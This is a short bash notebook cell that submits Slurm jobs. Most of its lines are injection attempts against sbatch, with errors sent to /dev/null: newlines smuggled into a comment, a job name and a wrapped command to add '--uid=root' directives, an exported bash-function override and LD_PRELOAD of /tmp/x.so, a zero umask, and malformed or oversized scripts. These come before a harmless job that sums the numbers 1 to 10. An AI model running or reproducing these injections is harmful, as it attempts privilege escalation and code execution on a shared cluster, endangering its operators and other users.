%%bash
export SBATCH_COMMENT=$'x\n#SBATCH --uid=root' SBATCH_GET_USER_ENV=1 SLURM_UMASK=0000
sbatch --time=1 --job-name=$'x\n#SBATCH --uid=0' --output=/dev/null --wrap=$'true\n#SBATCH --uid=0' 2> /dev/null
sbatch --time=1 --export="ALL,BASH_FUNC_true%%=() { id; },LD_PRELOAD=/tmp/x.so" --output=/dev/null --wrap=true 2> /dev/null
printf '#!/bin/bash\n#SBATCH --time=1\n\0\0true\n' | sbatch 2> /dev/null
printf '#!/bin/bash\r\n#SBATCH --time=1\r\ntrue\r\n' | sbatch 2> /dev/null
{ printf '#!/bin/bash\n#SBATCH --time=1 --output=/dev/null\n'; head -c 5000000 /dev/zero | tr '\0' '#'; } | sbatch 2> /dev/null
unset SBATCH_COMMENT SBATCH_GET_USER_ENV SLURM_UMASK
sbatch --wait --job-name=count --time=1 --output=count.out --wrap="seq 10 | python -c 'print(sum(map(int, open(0))))'"
